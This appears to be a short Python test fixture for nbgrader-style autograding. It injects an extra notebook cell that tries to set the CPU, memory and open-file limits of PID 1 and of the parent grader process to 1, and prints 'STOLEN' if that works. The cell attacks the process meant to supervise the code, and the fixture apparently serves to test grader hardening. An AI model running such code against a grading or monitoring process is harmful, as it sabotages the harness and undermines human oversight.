"""Takes everything from the process that watches it. Stock nbgrader: nothing watches."""

CELLS = {
    "extra first cell": """
import os
import resource

for process in {1, os.getppid()}:
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE):
        try:
            resource.prlimit(process, limit, (1, 1))
            print("STOLEN")
        except OSError:
            pass
"""
}
